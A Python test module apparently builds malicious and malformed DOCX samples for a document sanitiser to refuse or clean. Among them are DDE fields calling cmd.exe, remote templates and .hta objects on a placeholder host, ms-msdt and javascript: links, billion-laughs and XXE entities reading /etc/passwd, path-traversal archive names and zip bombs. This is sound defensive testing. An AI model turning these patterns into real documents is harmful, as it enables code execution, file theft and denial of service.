"""Texts (DOCX) with macros, objects, remote content, and all that tells who wrote them."""

# ruff: noqa: E501  parts of packages stand on one line, as programs write them

import io
import random
import stat
import zipfile

from tests.rabatplatform.files import samples as real
from tests.rabatplatform.files.corpus.packages import (
    HEAD,
    NAMESPACES,
    OFFICE,
    R,
    office_parts,
    override,
    packed,
    relation,
)
from tests.rabatplatform.files.corpus.sample import CLEAN, MARK, REFUSED, SAFE, SEEN, samples

MAIN, KIND = "word/document.xml", OFFICE + "wordprocessingml.document.main+xml"
WORD = OFFICE + "wordprocessingml."
DRAWN = '<w:p><w:r><w:drawing><a:graphic><a:graphicData uri="x"><a:blip {}/></a:graphicData></a:graphic></w:drawing></w:r></w:p>'
PEOPLE = "application/vnd.ms-word."


def document(body="") -> str:
    return (
        f"{HEAD}<w:document {NAMESPACES}><w:body><w:p><w:r><w:t>{SEEN}</w:t></w:r></w:p>{body}<w:sectPr/></w:body></w:document>"
    )


def parts_of(body="", *, kind=KIND, **more) -> dict:
    return office_parts(MAIN, kind, document(body), **more)


def docx(body="", **more):
    return lambda: packed(parts_of(body, **more))


def with_part(name, content, word, *, kind="", body="", number="rId9"):
    """A part that the document relates to."""
    target = name.removeprefix("word/")
    more_types = override(name, kind) if kind else ""
    return docx(body, lines=relation(number, word, target), more_types=more_types, parts={name: content})


def settings(inner, lines=""):
    parts = {"word/settings.xml": f"{HEAD}<w:settings {NAMESPACES}>{inner}</w:settings>"}
    if lines:
        parts["word/_rels/settings.xml.rels"] = (
            f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'
        )
    return docx(
        lines=relation("rId9", "settings", "settings.xml"),
        more_types=override("word/settings.xml", WORD + "settings+xml"),
        parts=parts,
    )


def field(instruction, split=1):
    size = max(len(instruction) // split, 1)
    pieces = [instruction[at : at + size] for at in range(0, len(instruction), size)]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return docx(f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>0</w:t></w:r>{mark.format('end')}</w:p>")


def nested_field():
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    begin, end = mark.format("begin"), mark.format("end")
    inner = f"{begin}<w:r><w:instrText>QUOTE 68 68 69 {MARK}</w:instrText></w:r>{end}"
    return docx(f"<w:p>{begin}{inner}<w:r><w:instrText> cmd {MARK}</w:instrText></w:r>{end}</w:p>")()


def hyperlink(target):
    body = f'<w:p><w:hyperlink r:id="rId9"><w:r><w:t>{SEEN}</w:t></w:r></w:hyperlink></w:p>'
    return docx(body, lines=relation("rId9", "hyperlink", target, outside=True))


def picture(content, name="image1.png"):
    return docx(
        DRAWN.format('r:embed="rId9"'), lines=relation("rId9", "image", f"media/{name}"), parts={f"word/media/{name}": content}
    )


def told():
    core = f'{HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" \
xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{MARK}</dc:creator><cp:lastModifiedBy>{MARK}</cp:lastModifiedBy></cp:coreProperties>'
    app = f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Pages>3</Pages>\
<Company>{MARK}</Company><Manager>{MARK}</Manager><Template>C:\\Users\\{MARK}\\a.dotx</Template></Properties>'
    return docx(
        root_lines=relation("rId2", "extended-properties", "docProps/app.xml")
        + relation("rId3", "metadata/core-properties", "docProps/core.xml")
        + relation("rId4", "custom-properties", "docProps/custom.xml")
        + relation("rId5", "thumbnail", "docProps/thumbnail.jpg"),
        parts={
            "docProps/core.xml": core,
            "docProps/app.xml": app,
            "docProps/custom.xml": f"<a>{MARK}</a>",
            "docProps/thumbnail.jpg": MARK,
        },
    )()


def tracked():
    who = f'w:id="1" w:author="{MARK}" w:initials="{MARK}" w:date="2026-01-01T00:00:00Z"'
    body = f'<w:p w:rsidR="00AB12CD"><w:ins {who}><w:r><w:t>{SEEN}</w:t></w:r></w:ins><w:del {who}><w:r><w:delText>x</w:delText></w:r></w:del></w:p>'
    comment = f"{HEAD}<w:comments {NAMESPACES}><w:comment {who}><w:p><w:r><w:t>c</w:t></w:r></w:p></w:comment></w:comments>"
    people = f'{HEAD}<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="{MARK}"/></w15:people>'
    return docx(
        body,
        lines=relation("rId8", "comments", "comments.xml")
        + relation("rId9", "people", "people.xml", base="http://schemas.microsoft.com/office/2011/relationships"),
        more_types=override("word/comments.xml", WORD + "comments+xml") + override("word/people.xml", WORD + "people+xml"),
        parts={"word/comments.xml": comment, "word/people.xml": people},
    )()


def macro(name="word/vbaProject.bin", word="vbaProject", base="http://schemas.microsoft.com/office/2006/relationships"):
    return docx(
        lines=relation("rId9", word, name.removeprefix("word/"), base=base), parts={name: b"\xd0\xcf\x11\xe0" + MARK.encode()}
    )


def xml_with(head: str, encoding="utf-8"):
    text = document().replace(HEAD, "").replace(SEEN, "&x;")
    return lambda: packed({**parts_of(), MAIN: (head + text).encode(encoding)})


LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9))
    + "<!ENTITY x '&j;'>]>"
)


def mimed(content):
    """A part that begins with somebody else's local header name."""
    raw = packed(parts_of())
    return raw.replace(b"word/document.xml", content, 1)


def bombed(size=150, times=1):
    parts = parts_of()
    for number in range(times):
        parts[f"word/header{number}.xml"] = b" " * size * 1024**2
    return lambda: packed(parts)


def heavy_text():
    """Packs 20 to one, 60 MB: within the ratio, above what one part may have."""
    text = random.Random(7).randbytes(1_500_000).hex() * 20
    return packed({**parts_of(), MAIN: document(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")})


def linked_away():
    info = zipfile.ZipInfo("word/link.xml")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return packed(parts_of(), infos=[(info, "/etc/passwd")])


def locked():
    raw = bytearray(packed(parts_of()))
    at = 0
    while (at := raw.find(b"PK\1\2", at)) >= 0:
        raw[at + 8] |= 1
        at += 4
    return bytes(raw)


EMF = b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 100
SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{MARK}</script></svg>".encode()
ACTIVE_X = f'<ax:ocx xmlns:ax="x" ax:classid="{MARK}"/>'
MACROS = {
    "DOCM called DOCX": docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "template with macros": docx(kind="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "vbaProject": macro(),
    "vbaProject of another name": macro("word/media/image1.png"),
    "vbaProject of another kind": macro("word/vbaProject.bin", "image", R),
    "vbaProject that nothing reaches": lambda: packed({**parts_of(), "word/VBAPROJECT.BIN": b"x"}),
    "vbaProject in a folder": lambda: packed({**parts_of(), "customXml/vbaProject.bin": b"x"}),
    "vbaData": macro("word/vbaData.xml", "wordVbaData"),
    "macro by content type alone": docx(more_types=override("word/a.bin", "application/vnd.ms-office.vbaProject")),
    "toolbars": macro("word/attachedToolbars.bin", "attachedToolbars"),
    "keys": macro("word/customizations.xml", "keyMapCustomizations"),
    "ribbon": docx(
        root_lines=relation(
            "rId7", "ui/extensibility", "customUI/customUI.xml", base="http://schemas.microsoft.com/office/2006/relationships"
        ),
        parts={"customUI/customUI.xml": f'<customUI onLoad="{MARK}"/>'},
    ),
    "web add-in": with_part("word/webextension1.xml", f"<a>{MARK}</a>", "webextension"),
}
EMBEDDED = {
    "OLE object": with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + MARK.encode(), "oleObject"),
    "OLE object without a relation": docx('<w:p><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:p>'),
    "embedded workbook": with_part("word/embeddings/sheet.xlsx", packed({"a": MARK}), "package"),
    "ActiveX": with_part("word/activeX/activeX1.xml", ACTIVE_X, "control"),
    "ActiveX of another name": with_part("word/part.xml", ACTIVE_X, "control"),
    "ActiveX that nothing reaches": lambda: packed({**parts_of(), "word/activeX/activeX1.bin": b"x"}),
    "page taken in": with_part("word/chunk.html", f"<script>{MARK}</script>", "aFChunk", body='<w:altChunk r:id="rId9"/>'),
    "part document": docx('<w:subDoc r:id="rId9"/>', lines=relation("rId9", "subDocument", "other.docx")),
    "film": with_part("word/media/film.mp4", b"ftyp" + MARK.encode(), "video"),
}
OUTSIDE = {
    "picture from elsewhere": docx(
        DRAWN.format('r:link="rId9"'), lines=relation("rId9", "image", f"https://{MARK}.example/a.png", outside=True)
    ),
    "picture from a share": docx(
        DRAWN.format('r:embed="rId9"'), lines=relation("rId9", "image", f"file://{MARK}/a.png", outside=True)
    ),
    "object from elsewhere": docx(lines=relation("rId9", "oleObject", f"https://{MARK}.example/x.hta", outside=True)),
    "object by MHTML": docx(lines=relation("rId9", "oleObject", f"mhtml:https://{MARK}.example/x!x", outside=True)),
    "page from elsewhere": docx(
        '<w:altChunk r:id="rId9"/>', lines=relation("rId9", "aFChunk", f"https://{MARK}.example/", outside=True)
    ),
    "frame from elsewhere": docx(lines=relation("rId9", "frame", f"https://{MARK}.example/", outside=True)),
    "film from elsewhere": docx(lines=relation("rId9", "video", f"https://{MARK}.example/", outside=True)),
    "old picture from elsewhere": docx(
        f'<w:p><w:r><w:pict><v:shape><v:imagedata src="https://{MARK}.example/a.png"/></v:shape></w:pict></w:r></w:p>'
    ),
}
DRAWINGS = {
    "EMF": picture(EMF, "image1.emf"),
    "EMF called PNG": picture(EMF),
    "SVG alone": picture(SVG, "image1.svg"),
    "program called PNG": picture(b"MZ" + MARK.encode()),
    "archive called PNG": picture(packed({"a": MARK})),
}
TEMPLATE = relation("rId1", "attachedTemplate", f"https://{MARK}.example/a.dotm", outside=True)
HIDDEN = {
    "properties": told,
    "tracked changes": tracked,
    "template from elsewhere": settings('<w:attachedTemplate r:id="rId1"/>', TEMPLATE),
    "template of the maker's disk": settings(
        '<w:attachedTemplate r:id="rId1"/>',
        relation("rId1", "attachedTemplate", f"file:///C:\\Users\\{MARK}\\a.dotm", outside=True),
    ),
    "mail merge": settings(
        f'<w:mailMerge><w:query w:val="{MARK}"/><w:dataSource r:id="rId1"/></w:mailMerge>',
        relation("rId1", "mailMergeSource", f"file:///{MARK}.mdb", outside=True),
    ),
    "variables and marks": settings(
        f'<w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w:docVars><w:docVar w:name="a" w:val="{MARK}"/></w:docVars><w:updateFields w:val="true"/>'
    ),
    "custom XML": docx(
        lines=relation("rId9", "customXml", "../customXml/item1.xml"), parts={"customXml/item1.xml": f"<a>{MARK}</a>"}
    ),
    "fonts": with_part("word/fonts/font1.odttf", MARK, "font"),
    "printer": with_part("word/printerSettings1.bin", MARK, "printerSettings"),
    "web settings": with_part("word/webSettings.xml", f"<a>{MARK}</a>", "webSettings"),
    "glossary": with_part("word/glossary/document.xml", f"<a>{MARK}</a>", "glossaryDocument"),
    "unknown part": with_part("word/what.xml", f"<a>{MARK}</a>", "whatIsThis"),
    "part that nothing reaches": lambda: packed({**parts_of(), "word/a.exe": b"MZ" + MARK.encode(), "x.js": MARK}),
    "photograph with position": picture(real.photograph(), "image1.jpg"),
    "picture with a telling name": picture(real.picture("PNG"), f"{MARK}.png"),
    "SVG beside a PNG": docx(
        DRAWN.format('r:embed="rId9"')
        .replace("<a:blip", "<a:blip")
        .replace(
            "/></a:graphicData>",
            '><a:extLst><a:ext uri="x"><asvg:svgBlip xmlns:asvg="x" r:embed="rId8"/></a:ext></a:extLst></a:blip></a:graphicData>',
        ),
        lines=relation("rId9", "image", "media/a.png") + relation("rId8", "image", "media/a.svg"),
        parts={"word/media/a.png": real.picture("PNG"), "word/media/a.svg": SVG},
    ),
    "link with a script": hyperlink(f"javascript:{MARK}"),
    "link to a share": hyperlink(f"\\\\{MARK}\\a.exe"),
    "link to a file": hyperlink(f"file:///{MARK}"),
    "link to a search": hyperlink(f"search-ms:query={MARK}"),
    "link to the diagnostic tool": hyperlink(f"ms-msdt:/id {MARK}"),
    "DDE": field(f'DDE "cmd.exe" "/c {MARK}"'),
    "DDEAUTO in pieces": field(f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {MARK}"', 5),
    "field in a field": nested_field,
    "text taken in": field(f'INCLUDETEXT "https://{MARK}.example/"'),
    "picture taken in": field(f'INCLUDEPICTURE "https://{MARK}.example/" \\d'),
    "linked workbook": field(f'LINK Excel.Sheet.12 "C:\\\\{MARK}.xlsx" a1'),
    "macro button": field(f"MACROBUTTON {MARK} Press"),
    "author's field": docx(f'<w:p><w:fldSimple w:instr="DOCPROPERTY {MARK}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "link field with a script": field(f'HYPERLINK "javascript:{MARK}"'),
    "link field with switches": field(f'HYPERLINK \\t "_blank" "file://{MARK}/x" \\o "https://example.org/"'),
    "comments and instructions in the XML": lambda: packed({**parts_of(), MAIN: document(f"<!-- {MARK} --><?{MARK} x?>")}),
    "old drawing with a package in it": docx(
        f'<w:p><w:r><w:pict><v:shape o:gfxdata="{MARK}" href="file:///{MARK}"/></w:pict></w:r></w:p>'
    ),
    "PDF behind": lambda: packed(parts_of()) + real.document(MARK),
    "names of the archive's maker": lambda: packed(parts_of(), infos=[(zipfile.ZipInfo("x.txt", (2020, 1, 1, 1, 1, 2)), MARK)]),
}
BROKEN = {
    "billion laughs": xml_with(LAUGHS),
    "billion laughs in UTF-16": xml_with('<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS, "utf-16"),
    "entity of a file": xml_with('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "entity from elsewhere": xml_with(f'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://{MARK}.example/a.dtd">%p;<!ENTITY x "a">]>'),
    "DTD alone": xml_with("<!DOCTYPE x><!-- -->"),
    "bomb": bombed(),
    "forty bombs": bombed(20, 40),
    "very long text": heavy_text,
    "three thousand parts": lambda: packed({**parts_of(), **{f"word/a{n}.xml": "<a/>" for n in range(3_000)}}),
    "name that climbs": lambda: packed({**parts_of(), "../../etc/cron.d/x": MARK}),
    "name from the root": lambda: packed({**parts_of(), "/etc/passwd": MARK}),
    "name with backslashes": lambda: mimed(b"word\\document.xml"),
    "name of a disk": lambda: packed({**parts_of(), "C:/a.xml": MARK}),
    "name of 5,000 signs": lambda: packed({**parts_of(), "a" * 5_000: MARK}),
    "one name twice": lambda: packed([*parts_of().items(), (MAIN, document(MARK))]),
    "one name twice, in capitals": lambda: packed({**parts_of(), "WORD/DOCUMENT.XML": document(MARK)}),
    "two main kinds": docx(more_types=override("xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml")),
    "link in the archive": linked_away,
    "parts with a password": locked,
    "no main part": lambda: packed({name: part for name, part in parts_of().items() if name != MAIN}),
    "main part elsewhere": lambda: packed(
        {
            **parts_of(),
            "_rels/.rels": parts_of()["_rels/.rels"].replace(f'"{MAIN}"', f'"https://{MARK}.example/" TargetMode="External"'),
        }
    ),
    "main part is no XML": lambda: packed({**parts_of(), MAIN: b"\0\1\2" * 99}),
    "types are no XML": lambda: packed({**parts_of(), "[Content_Types].xml": KIND}),
    "depth of 100,000": lambda: packed({**parts_of(), MAIN: document("<w:a>" * 100_000 + "</w:a>" * 100_000)}),
    "text alone": lambda: packed({"[Content_Types].xml": KIND, MAIN: SEEN}),
}


def nested_archives():
    inner = b"x"
    for number in range(10):
        inner = packed({f"{number}.zip": inner})
    return packed({**parts_of(), "word/embeddings/a.zip": inner})


def many_pictures():
    """Sixty pictures of 39 million pixels each, in a small file."""
    raw = io.BytesIO()
    from PIL import Image

    Image.new("1", (7_800, 5_000)).save(raw, "PNG")
    content = raw.getvalue()
    return docx(
        "".join(DRAWN.format(f'r:embed="rId{n}"') for n in range(100, 160)),
        lines="".join(relation(f"rId{n}", "image", f"media/i{n}.png") for n in range(100, 160)),
        parts={f"word/media/i{n}.png": content for n in range(100, 160)},
    )()


LOOPING = {
    "relations in a ring": docx(lines=relation("rId1", "header", "document.xml") + relation("rId2", "image", "document.xml")),
    "archive in an archive in an archive": nested_archives,
    "relation to the types": docx(
        lines=relation("rId1", "header", "/[Content_Types].xml") + relation("rId2", "styles", "../../../etc/passwd")
    ),
    "strange characters in relations": docx(
        lines=relation("rId&quot;&gt;&lt;x/&gt;", "hyperlink", "https://example.org/&quot;&gt;", outside=True)
    ),
    "namespace of scripts": docx(f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{MARK}</script></html>'),
}
BROKEN["sixty large pictures"] = many_pictures
NAME = {"name": "letter.docx"}
SAMPLES = [
    *samples("DOCX", REFUSED, MACROS, **NAME),
    *samples("DOCX", REFUSED, EMBEDDED, code="file_embedded", **NAME),
    *samples("DOCX", REFUSED, OUTSIDE, code="file_outside", **NAME),
    *samples("DOCX", REFUSED, DRAWINGS, code="file_drawing", **NAME),
    *samples("DOCX", CLEAN, HIDDEN, sees=True, **NAME),
    *samples("DOCX", REFUSED, BROKEN, **NAME),
    *samples("DOCX", SAFE, LOOPING, **NAME),
]
